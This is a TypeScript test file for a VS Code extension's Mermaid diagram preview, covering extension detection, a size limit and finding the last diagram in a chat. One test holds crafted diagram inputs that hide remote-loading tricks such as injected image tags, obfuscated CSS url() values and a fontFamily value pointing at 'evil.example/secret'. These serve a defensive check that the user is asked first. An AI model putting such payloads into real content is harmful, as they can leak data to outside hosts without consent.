// Imported first: later imports get this stub of `vscode`.
import { resetStub, stub, toasts } from '../../vscodeStub';
import assert from 'node:assert/strict';
import { reduce } from '../../../../../src/shared/state/sessionReducer';
import { emptySession } from '../../../../../src/shared/state/sessionState';
import { showDiagram, showLastDiagram } from '../../../../../src/ui/chat/content/showDiagram';
import { canDrawDiagrams } from '../../../../../src/ui/chat/diagramSupport';
import { until } from '../../../../kit/waiting';

const PREVIEW_SCRIPTS = { 'markdown.previewScripts': ['./index.js'] };
const MERMAID = { id: 'vscode.mermaid-markdown-features', packageJSON: { contributes: PREVIEW_SCRIPTS } };

describe('a diagram', () => {
  const { Uri, commands, extensions } = stub;
  let shown: { readonly command: string; readonly query: string }[];

  beforeEach(() => {
    resetStub();
    shown = [];
    const executeCommand = async (command: string, { query }: { query: string }) => void shown.push({ command, query });
    const from = (parts: object) => parts;
    Object.assign(stub, { Uri: { ...Uri, from }, commands: { executeCommand }, extensions: { all: [MERMAID] } });
  });

  after(() => Object.assign(stub, { Uri, commands, extensions }));

  it('can be drawn where an extension adds Mermaid to the Markdown preview', () => {
    const draws = (...all: object[]): boolean => {
      Object.assign(stub, { extensions: { all } });
      return canDrawDiagrams();
    };
    assert.equal(draws(MERMAID), true);
    assert.equal(draws({ id: 'a.charts', packageJSON: { contributes: PREVIEW_SCRIPTS, keywords: ['Mermaid'] } }), true);
    assert.equal(draws(), false);
    assert.equal(draws({ id: 'a.math', packageJSON: { contributes: PREVIEW_SCRIPTS } }), false);
    assert.equal(draws({ id: 'a.mermaid-colors', packageJSON: { contributes: {} } }), false);
    const odd = [undefined, null, 'x', { contributes: 1 }, { contributes: { 'markdown.previewScripts': {} } }];
    assert.equal(draws(...odd.map((packageJSON) => ({ id: 'a.mermaid', packageJSON }))), false);
  });

  it('is shown without a question when it can load nothing', async () => {
    const plain = [
      'graph TD\n  A["first<br/>second\\nthird"] --> B{a < b}\n  classDef done fill:#9f6\n  class A done\n',
      'classDiagram\n  Animal <|-- Duck\n',
      'sequenceDiagram\n  A->>B: 50% & more; 私\n  B-->>A: ok',
      '---\ntitle: Build the image\n---\ngraph TD\n  A --- B; style A fill:#333;\n  %% why',
    ];
    for (const text of plain) await showDiagram(text);
    assert.deepEqual(
      shown,
      plain.map((text) => ({ command: 'markdown.showPreview', query: text.trimEnd() })),
    );
    assert.equal(toasts.length, 0);
  });

  it('that can load something from the internet is shown after a question', async () => {
    const loading = [
      'graph TD\n  A@{ "\\x69mg": "x" }',
      'graph TD\n  A["<img src=x>"]',
      'graph TD\n  A["`![a](b)`"]',
      '%%{init: {"themeCSS": "* {background: \\u0075rl(x)}"}}%%\ngraph TD\n  A',
      'graph TD\n  style A background:url (//x)',
      'graph TD\n  click A "https://x"',
      "---\nconfig:\n  fontFamily: 'x;background-image:u\\rl(ht\\tps\\:\\/\\/evil.example\\/secret)'\n---\ngraph TD\n  A",
      '%%{init: {"themeCSS": "* {color: red}"}}%%\ngraph TD\n  A',
      '---\nconfig: {themeCSS: "x"}\n---\ngraph TD\n  A',
      'stateDiagram-v2\n  classDef x background:image-set("ht\ttps:/\t/evil" 1x)',
      'graph TD\n  classDef style fill:#1,background:u;rl(/;/evil)',
      'graph TD\n  style A background:"/\\\n/evil"',
      'graph TD\n  A["<br-x y=z>"]',
    ];
    for (const text of loading) {
      const done = showDiagram(text);
      await until(() => toasts.length > 0);
      await toasts.pop()?.choose(undefined);
      await done;
    }
    assert.deepEqual(shown, []);
    const done = showDiagram(loading[0] ?? '');
    await until(() => toasts.length > 0);
    await toasts[0]?.choose('Show Diagram');
    await done;
    assert.equal(shown.length, 1);
  });

  it('has a limit, and broken characters do no harm', async () => {
    await assert.rejects(showDiagram('x'.repeat(50_001)), {
      message: 'The diagram has 50001 characters; the limit is 50000.',
    });
    await showDiagram('graph TD\n A\uD800');
    assert.equal(shown[0]?.query, 'graph TD\n A\uFFFD');
  });

  it('that was written last is shown by the command', async () => {
    const texts = [
      '```mermaid\ngraph LR; A\n```\n\n1. x\n   ~~~mermaid title\n   graph LR; B\n   ~~~\n',
      'and\n```ts\nx\n```',
    ];
    const state = texts.reduce(
      (before, text) => reduce(before, { type: 'textAppended', role: 'agent', messageId: text, text, at: 1 }),
      emptySession('s'),
    );
    await showLastDiagram(state);
    assert.deepEqual(
      shown.map(({ query }) => query.trim()),
      ['graph LR; B'],
    );
    await assert.rejects(showLastDiagram(emptySession('s')), { message: 'This chat has no diagram.' });
    Object.assign(stub, { extensions: { all: [] } });
    await assert.rejects(showLastDiagram(state), {
      message: 'The Markdown preview of VS Code does not draw diagrams.',
    });
  });
});
